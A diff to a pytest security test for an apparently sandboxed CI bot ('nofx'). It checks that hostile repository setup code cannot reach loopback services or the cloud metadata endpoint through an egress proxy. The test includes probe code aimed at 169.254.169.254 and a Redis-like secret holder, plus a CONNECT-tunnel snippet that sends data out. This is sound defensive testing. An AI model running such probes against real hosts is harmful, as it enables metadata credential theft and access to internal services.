@@ -1,14 +1,17 @@
 """A repository's `setup` is hostile code with network and a writable directory that nofx handles on the host
-afterwards: nothing it leaves there may make nofx write, read or follow anything outside. Through the real path:
-signed webhook, worker, bubblewrap sandbox."""
+afterwards: nothing it leaves there may make nofx write, read or follow anything outside, and its network is the
+egress proxy's, which reaches no address of the worker's own (loopback, private, link-local) unless the operator
+allows it. Through the real path: signed webhook, worker, bubblewrap sandbox."""
 
 from __future__ import annotations
 
 import contextlib
 import functools
+import shutil
 import socket
 import threading
 from collections.abc import Callable, Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -18,6 +21,7 @@ from bot.models import Run, RunStatus
 from bot.runs import queries, setup_cache
 from bot.settings import Settings
 from bot.store import Store
+from bot.workspace import isolation
 from tests.conftest import BASE, OWNER, REPO, Deliverer, ask, with_model
 from tests.support.git_server import GitServer
 from tests.support.github_double import GitHubDouble
@@ -25,12 +29,43 @@ from tests.support.llm_double import AnthropicDouble
 
 CONFIG = ".github/nofx.yml"
 INSTALL = "scripts/install.sh"
-SEND = "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 5).sendall({data})\"\n"
+# setup's only way out: a CONNECT through the proxy its HTTPS_PROXY names (the operator allows the listener).
+SEND = (
+    "python3 - <<'EOF'\n"
+    "import os, socket, urllib.parse\n"
+    "proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
+    "tunnel = socket.create_connection((proxy.hostname, proxy.port), 5)\n"
+    "tunnel.sendall(b'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n')\n"
+    "assert tunnel.recv(100).startswith(b'HTTP/1.1 200 ')\n"
+    "tunnel.sendall({data})\n"
+    "EOF\n"
+)
+# What a hostile base commit's setup tries against a service on the worker's loopback (Redis, PostgreSQL) and the
+# cloud metadata endpoint: directly, then through the proxy with urllib and curl.
+PROBE = """\
+import shutil, socket, subprocess, sys, urllib.error, urllib.request
+try:
+    print("direct:", socket.create_connection(("127.0.0.1", PORT), 5).recv(100))
+except OSError as exc:
+    print("direct:", exc)
+for url in ("http://127.0.0.1:PORT/", "http://169.254.169.254/latest/meta-data/"):
+    try:
+        print("urllib:", urllib.request.urlopen(url, timeout=30).read())
+    except urllib.error.HTTPError as exc:
+        print("urllib:", exc.code, exc.read().decode().strip())
+    except OSError as exc:
+        print("urllib:", exc)
+if shutil.which("curl"):
+    subprocess.run(["curl", "-sS", "https://127.0.0.1:PORT/"], stderr=subprocess.STDOUT, check=False)
+sys.exit(3)
+"""
+SECRET = b"+REDIS-SECRET-4f1c9e\r\n"
 
 
 @pytest.fixture
-def settings(settings: Settings, llm: AnthropicDouble) -> Settings:
-    return with_model(settings, llm)
+def settings(settings: Settings, llm: AnthropicDouble, listener: Listener) -> Settings:
+    """The listener stands for a package index the operator allows: NOFX_SETUP_EGRESS_ALLOW names it."""
+    return replace(with_model(settings, llm), setup_egress_allow=f"127.0.0.1:{listener.port}")
 
 
 pytestmark = pytest.mark.usefixtures("example_installation")
@@ -72,10 +107,12 @@ def test_a_setup_that_leaves_its_marker_as_a_symlink_to_a_host_file_never_gets_i
 
 
 class Listener:
-    """A TCP server on 127.0.0.1 that keeps what each connection sent: setup shares the host's network, so it stands
-    for a package index (what the base's setup may reach) and for an attacker's server (what it must not)."""
+    """A TCP server on 127.0.0.1 that keeps what each connection sent, after sending it `greeting`: a package index
+    the operator allows (what the base's setup may reach), an attacker's server (what code the model wrote must
+    not), or a service of the worker's own holding a secret (what no setup may reach)."""
 
-    def __init__(self) -> None:
+    def __init__(self, greeting: bytes = b"") -> None:
+        self.greeting = greeting
         self.socket = socket.create_server(("127.0.0.1", 0))
         self.socket.settimeout(0.1)
         self.port: int = self.socket.getsockname()[1]
@@ -92,6 +129,7 @@ class Listener:
     def _take(self, connection: socket.socket, _: object) -> None:
         with connection:
             connection.settimeout(5)
+            connection.sendall(self.greeting)
             self.received.append(b"".join(iter(functools.partial(connection.recv, 65536), b"")))
 
     def close(self) -> list[bytes]:
@@ -163,6 +201,54 @@ def test_a_follow_up_run_never_runs_an_install_script_its_branch_changed_with_ne
     assert (directory / "made").read_text() == "base\n"
     comment = github.issue_comments[(OWNER, REPO, opened.response["number"])][-1]["body"]
     assert "this run changes `requirements.txt`; setup installed the base commit's instead" in comment
+
+
+@pytest.fixture
+def redis_like() -> Iterator[Listener]:
+    """A service on the worker's loopback that hands anyone who connects a secret, as an unauthenticated Redis
+    does its data (and runs the RQ jobs they forge)."""
+    server = Listener(greeting=SECRET)
+    yield server
+    if server.socket.fileno() != -1:
+        server.close()
+
+
+def test_setup_reaches_no_service_on_the_workers_loopback_nor_the_metadata_endpoint(
+    deliver: Deliverer,
+    work: Callable[..., None],
+    github: GitHubDouble,
+    git: GitServer,
+    store: Store,
+    redis_like: Listener,
+) -> None:
+    if not isolation.probe().ok:
+        pytest.skip(f"bwrap-only (NOFX_SANDBOX=none gives setup the host's network): {isolation.probe().reason}")
+    config = "setup: python3 scripts/probe.py\ngates:\n  test: python3 -c pass\n"
+    files = {"scripts/probe.py": PROBE.replace("PORT", str(redis_like.port)), CONFIG: config}
+    github.branches[(OWNER, REPO, BASE)] = git.commit_many(OWNER, REPO, files, branch=BASE)
+    github.files[(OWNER, REPO, CONFIG, None)] = config
+
+    deliver("issue_comment", ask(git, "/nofx add greet()"))
+    work()
+
+    assert redis_like.close() == []  # nothing connected to it, directly or through the proxy
+    run = only_run(store)
+    setup = next(s for s in queries.steps_of(store, run.id) if s.name == "setup")
+    said = setup.error or ""
+    assert run.status == RunStatus.failed and "failed with exit code 3" in said, said
+    assert "direct: [Errno 111] Connection refused" in said  # the sandbox has no network of the host's
+    refused = f"refused 127.0.0.1:{redis_like.port}: 127.0.0.1 is loopback, not a public address"
+    assert f"urllib: 403 nofx egress proxy: {refused}" in said
+    assert "urllib: 403 nofx egress proxy: refused 169.254.169.254:80: 169.254.169.254 is link-local" in said
+    assert f"nofx egress proxy: {refused}; the nofx operator can allow a host with NOFX_SETUP_EGRESS_ALLOW" in said
+    if shutil.which("curl"):
+        assert "CONNECT tunnel failed, response 403" in said
+    events = queries.events_of(store, run.id)
+    [egress] = [e.payload for e in events if e.type == "setup.egress"]
+    assert egress == {"step": "setup", "reached": [], "refused": [f"127.0.0.1:{redis_like.port}", "169.254.169.254:80"]}
+    seen = [said, str(events), *(c["body"] for c in github.issue_comments[(OWNER, REPO, 1)])]
+    assert not any(SECRET.decode().strip() in text for text in seen)
+    assert f"refused 127.0.0.1:{redis_like.port}" in github.issue_comments[(OWNER, REPO, 1)][-1]["body"]
 
 
 def only_run(store: Store) -> Run:
